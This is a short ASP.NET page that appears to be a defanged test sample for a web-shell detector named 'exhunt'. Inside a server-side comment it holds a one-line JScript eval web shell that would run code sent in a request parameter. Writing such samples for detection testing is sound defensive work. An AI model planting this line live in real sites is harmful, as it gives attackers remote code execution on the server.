<%@ Page Language="Jscript" %>
<%-- exhunt test sample, defanged: everything below is inside an ASP.NET
     server-side comment and is never compiled.
<%eval(Request.Item["exhunt"],"unsafe");%>
--%>
